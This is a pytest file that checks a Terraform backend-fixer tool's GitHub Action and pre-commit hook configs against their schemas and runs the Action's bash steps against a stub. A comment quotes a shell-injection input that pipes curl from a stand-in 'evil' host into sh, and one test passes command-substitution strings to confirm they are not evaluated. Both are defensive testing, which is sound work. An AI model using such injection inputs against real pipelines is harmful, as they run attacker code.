"""``action.yml`` and ``.pre-commit-hooks.yaml``: valid for their published schemas, and sound.

The schemas are SchemaStore's, vendored under ``data/`` (sources in its
README). The Action's shell steps are also run for real with bash, against a
stub ``backend-fixer`` that records its arguments, so the argument handling
and exit codes are tested, not just the YAML.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml
from jsonschema import Draft7Validator

ROOT = Path(__file__).resolve().parents[2]
DATA = Path(__file__).parent / "data"


def load_yaml(name: str) -> Any:
    return yaml.safe_load((ROOT / name).read_text(encoding="utf-8"))


def schema_errors(schema_file: str, document: Any) -> list[str]:
    schema = json.loads((DATA / schema_file).read_text(encoding="utf-8"))
    Draft7Validator.check_schema(schema)
    return [
        f"{'/'.join(map(str, e.absolute_path))}: {e.message}"
        for e in Draft7Validator(schema).iter_errors(document)
    ]


def test_action_yml_matches_schemastore_schema() -> None:
    assert schema_errors("schemastore-github-action.json", load_yaml("action.yml")) == []


def test_pre_commit_hooks_match_schemastore_schema() -> None:
    hooks = load_yaml(".pre-commit-hooks.yaml")
    assert schema_errors("schemastore-pre-commit-hooks.json", hooks) == []


def test_the_schemas_do_reject_mistakes() -> None:
    action = load_yaml("action.yml")
    action["runs"]["using"] = "composite"
    action["inputs"]["mode"]["requird"] = True
    assert schema_errors("schemastore-github-action.json", action)
    hooks = load_yaml(".pre-commit-hooks.yaml")
    del hooks[0]["entry"]
    assert schema_errors("schemastore-pre-commit-hooks.json", hooks)


def test_action_inputs() -> None:
    action = load_yaml("action.yml")
    inputs = action["inputs"]
    for name in ("command", "mode", "paths", "token", "sarif-file", "version"):
        assert inputs[name]["description"], name
    assert inputs["command"]["default"] == "check"
    # Empty: --mode is passed only when set, so the config file's mode applies.
    assert inputs["mode"]["default"] == ""
    assert inputs["token"]["default"] == "${{ github.token }}"
    assert action["runs"]["using"] == "composite"


def _run_steps() -> list[dict[str, Any]]:
    return [s for s in load_yaml("action.yml")["runs"]["steps"] if "run" in s]


def test_run_scripts_take_inputs_only_through_the_environment() -> None:
    # `${{ inputs.x }}` pasted into a script is a shell-injection hole: an input such as
    # `a"; curl evil | sh; "` would run. Values must arrive as environment variables.
    for step in _run_steps():
        assert "${{" not in step["run"], step["name"]
        assert step["shell"] == "bash"


def test_run_scripts_parse() -> None:
    for step in _run_steps():
        result = subprocess.run(
            ["bash", "-n"], input=step["run"], text=True, capture_output=True, check=False
        )
        assert result.returncode == 0, (step["name"], result.stderr)


def test_install_step_installs_from_the_action_path_or_pypi() -> None:
    install = next(s for s in _run_steps() if s.get("id") == "install")
    assert install["env"]["BF_ACTION_PATH"] == "${{ github.action_path }}"
    assert '"$py" -m pip install' in install["run"]
    assert "terraform-backend-fixer==$BF_VERSION" in install["run"]
    # The package name the install step uses is this project's.
    assert 'name = "terraform-backend-fixer"' in (ROOT / "pyproject.toml").read_text()


@pytest.fixture
def run_step(tmp_path: Path) -> Any:
    """Run the Action's "Run backend-fixer" step with bash and a recording stub."""
    step = next(s for s in _run_steps() if s["name"] == "Run backend-fixer")
    log = tmp_path / "calls.txt"
    stub = tmp_path / "backend-fixer"
    stub.write_text(
        "#!/usr/bin/env bash\n"
        'printf "%s\\n" "$*" >> "$STUB_LOG"\n'
        'case " $* " in *" --format sarif "*) exit "${STUB_SARIF_STATUS:-0}";; esac\n'
        'exit "${STUB_STATUS:-0}"\n'
    )
    stub.chmod(0o755)

    def run(inputs: dict[str, str], **stub_env: str) -> tuple[int, list[str], str]:
        env = {"PATH": os.environ["PATH"], "STUB_LOG": str(log), "BF_BIN": str(stub)}
        defaults = {
            "BF_COMMAND": "check",
            "BF_MODE": "",
            "BF_PATHS": ".",
            "BF_SARIF": "",
            "BF_ARGS": "",
            "GITHUB_TOKEN": "t",
        }
        env.update(defaults)
        env.update(inputs)
        env.update(stub_env)
        log.write_text("")
        result = subprocess.run(
            ["bash", "-c", step["run"]],
            env=env,
            cwd=tmp_path,
            capture_output=True,
            text=True,
            timeout=30,
            check=False,
        )
        return result.returncode, log.read_text().splitlines(), result.stdout

    assert shutil.which("bash")
    return run


def test_action_check_annotates_and_fails_on_findings(run_step: Any) -> None:
    status, calls, _ = run_step({"BF_PATHS": "envs/prod  modules"}, STUB_STATUS="1")
    assert status == 1
    assert calls == ["check envs/prod modules --format github"]


def test_action_check_writes_sarif_then_annotates(run_step: Any) -> None:
    status, calls, _ = run_step(
        {"BF_SARIF": "out/results.sarif", "BF_ARGS": "--select BF001"}, STUB_SARIF_STATUS="1"
    )
    assert status == 0
    assert calls == [
        "check . --format sarif --output out/results.sarif --select BF001",
        "check . --format github --select BF001",
    ]
    status, calls, _ = run_step({"BF_SARIF": "r.sarif"}, STUB_SARIF_STATUS="2")
    assert status == 2 and len(calls) == 1  # an error stops before annotating


def test_action_pr(run_step: Any) -> None:
    status, calls, _ = run_step(
        {"BF_COMMAND": "pr", "BF_MODE": "override", "BF_ARGS": "--base develop"}
    )
    assert status == 0
    assert calls == ["pr . --mode override --base develop"]
    # Without a mode input the config file's mode (or comment) applies: no --mode.
    status, calls, _ = run_step({"BF_COMMAND": "pr"})
    assert status == 0
    assert calls == ["pr ."]
    status, calls, out = run_step({"BF_COMMAND": "pr", "BF_PATHS": "a b"})
    assert status == 2 and calls == [] and "takes one path" in out


def test_action_rejects_unknown_commands_and_does_not_evaluate_inputs(run_step: Any) -> None:
    status, calls, out = run_step({"BF_COMMAND": "fix"})
    assert status == 2 and calls == [] and "must be 'check' or 'pr'" in out
    status, calls, _ = run_step({"BF_PATHS": "$(touch pwned) `touch pwned2`"})
    assert calls == ["check $(touch pwned) `touch pwned2` --format github"]


def test_pre_commit_hooks() -> None:
    hooks = {h["id"]: h for h in load_yaml(".pre-commit-hooks.yaml")}
    assert set(hooks) == {"backend-fixer-check", "backend-fixer-fix"}
    # A staged file stands for its whole module: a change in one file can break another.
    # --force-exclude: the config file's exclude holds for the files pre-commit names.
    check, fix = hooks["backend-fixer-check"]["entry"], hooks["backend-fixer-fix"]["entry"]
    assert check == "backend-fixer check --whole-module --force-exclude"
    assert fix == "backend-fixer fix --write --whole-module --force-exclude"
    for hook in hooks.values():
        pattern = re.compile(hook["files"])
        for name in (
            "envs/prod/main.tf",
            "stack.tofu",
            "cdk.tf.json",
            "a.tofu.json",
            "p.tfbackend",
        ):
            assert pattern.search(name), name
        assert not pattern.search("README.md") and not pattern.search("main.tf.bak")
        assert hook["language"] == "python"
